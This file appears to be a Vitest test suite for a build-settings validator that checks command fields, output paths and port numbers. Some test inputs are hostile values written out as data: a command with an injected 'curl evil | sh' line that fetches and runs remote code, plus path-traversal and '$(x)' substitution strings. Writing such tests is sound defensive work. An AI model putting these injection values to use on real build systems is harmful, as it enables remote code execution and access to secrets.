import { describe, expect, it } from 'vitest';
import { commandArgv, refuseSettings, SettingsError, validateSettings } from './build-settings.js';

describe('validateSettings', () => {
  it('accepts ordinary settings', () => {
    expect(() =>
      validateSettings({ installCommand: 'npm ci', buildCommand: 'make build', outputDir: 'apps/web/dist', port: 8080 }),
    ).not.toThrow();
  });

  it.each(['installCommand', 'buildCommand', 'startCommand'] as const)('refuses a line break in %s, naming it', (field) => {
    expect(() => validateSettings({ [field]: 'npm test\nRUN curl evil | sh' })).toThrow(SettingsError);
    expect(() => validateSettings({ [field]: 'a\rb' })).toThrow(new RegExp(`^${field} must be a single line`));
  });

  it('refuses an empty command', () => {
    expect(() => validateSettings({ buildCommand: '  ' })).toThrow(/^buildCommand is empty/);
  });

  it.each(['../secrets', '/etc', 'dist/', '.', 'a//b', 'dist $(x)', '.hidden'])('refuses outputDir %j', (outputDir) => {
    expect(() => validateSettings({ outputDir })).toThrow(/^outputDir .* must be a relative path/);
  });

  it.each([0, 65536, 80.5, Number.NaN])('refuses port %d', (port) => {
    expect(() => validateSettings({ port })).toThrow(/^port .* is not a whole number from 1 to 65535/);
  });
});

describe('commandArgv', () => {
  it('hands the command verbatim to sh -c', () => {
    expect(commandArgv({ startCommand: `node "$ENTRY"` }, 'startCommand')).toEqual(['sh', '-c', 'node "$ENTRY"']);
    expect(commandArgv({}, 'startCommand')).toBeNull();
  });
});

describe('refuseSettings', () => {
  it('names the first given setting that does not apply, and why', () => {
    expect(() => refuseSettings({ port: 1, startCommand: 'x' }, ['installCommand', 'startCommand'], 'no shell')).toThrow(
      'startCommand does not apply: no shell',
    );
    expect(() => refuseSettings({ port: 1 }, ['startCommand'], 'no shell')).not.toThrow();
  });
});
